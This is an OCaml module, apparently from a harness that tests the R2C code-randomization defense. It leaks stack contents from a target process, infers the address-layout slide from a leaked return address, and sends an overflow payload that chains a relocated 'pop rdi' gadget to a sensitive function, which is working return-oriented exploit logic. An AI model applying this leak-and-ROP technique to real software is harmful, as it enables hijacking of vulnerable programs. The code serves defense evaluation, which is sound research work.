open R2c_machine

let run ~reference:(r : Reference.t) ~target:t =
  match Oracle.to_serving t with
  | Error note -> Report.of_target ~notes:[ note ] t
  | Ok () -> (
      match r.pop_rdi with
      | None -> Report.of_target ~notes:[ "reference binary has no pop rdi gadget" ] t
      | Some ref_gadget ->
          let values = Oracle.leak_at t ~addr:(Oracle.rsp t) ~words:((r.ra_off / 8) + 8) in
          (* The word at the reference RA slot is taken for the return
             address; under R2C it may well be a BTRA. *)
          let leaked_ra = values.(r.ra_off / 8) in
          let slide = leaked_ra - r.frame_ra_value in
          let gadget = ref_gadget + slide in
          let sensitive = r.sensitive_plt + slide in
          let filler = Payload.slice ~values ~from_off:r.buf_off ~upto_off:r.ra_off in
          let chain =
            Payload.le64 gadget ^ Payload.le64 R2c_workloads.Vulnapp.marker
            ^ Payload.le64 sensitive
          in
          Oracle.send t (filler ^ chain);
          let (_ : Process.outcome) = Oracle.resume_to_end t in
          Report.of_target ~notes:[ Printf.sprintf "inferred slide %#x" slide ] t)
